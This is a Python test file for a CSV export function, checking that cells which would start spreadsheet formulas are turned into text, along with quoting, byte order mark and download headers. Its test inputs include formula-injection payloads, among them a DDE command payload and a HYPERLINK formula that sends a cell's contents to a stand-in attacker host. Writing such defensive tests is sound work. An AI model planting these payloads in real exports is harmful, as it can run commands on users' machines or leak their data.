"""A table for spreadsheets: what would be a formula is text."""

import csv
import io

import pytest

from asyncbg.service.csv_export import csv_response


def exported(*cells: str | int | None) -> str:
    """One row under a header."""
    body = csv_response("x.csv", [f"c{n}" for n in range(len(cells))], [cells]).body
    return bytes(body).decode("utf-8-sig")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", " =1", "\u00a0=1",
        "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\t", '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    ],
)  # fmt: skip
def test_a_formula_is_made_text(text: str) -> None:
    """A quote stands before what would begin it, behind blanks too."""
    [_, [cell]] = csv.reader(io.StringIO(exported(text), newline=""))

    assert cell.lstrip(" \u00a0").startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [",", ";", "|", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("start", "=+-@")
def test_a_formula_behind_a_separator_is_made_text_too(separator: str, start: str) -> None:
    """A program that separates by something else, or takes no quotes, finds none at the start of its cells."""
    text = exported(f"a{separator}{start}1+1")

    assert f"{separator}{start}" not in text.removeprefix('"c0"\r\n')


@pytest.mark.parametrize(
    "text", ["people.csv", "a-b", "1", "x = y", "a.canary7f3a@canary7f3a.example", '"quoted"', "", "ä;b", "'=1"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    """Every cell is quoted, quotes in it are doubled."""
    assert exported(text) == '"c0"\r\n"' + text.replace('"', '""') + '"\r\n'


def test_it_begins_with_a_byte_order_mark() -> None:
    """Without one a spreadsheet takes UTF-8 for the encoding of its system, and umlauts for two letters each."""
    assert bytes(csv_response("x.csv", ["c"], [["ä"]]).body).startswith(b"\xef\xbb\xbf")


def test_numbers_and_nothing_are_cells() -> None:
    """A number is one, None is empty."""
    assert exported(3, None) == '"c0","c1"\r\n"3",""\r\n'


def test_it_is_a_file_to_keep() -> None:
    """The browser saves it, keeps no copy and takes it for nothing else."""
    headers = csv_response("imports-7.csv", ["a"], []).headers

    assert headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["content-disposition"] == 'attachment; filename="imports-7.csv"'
    assert (headers["cache-control"], headers["x-content-type-options"]) == ("no-store", "nosniff")
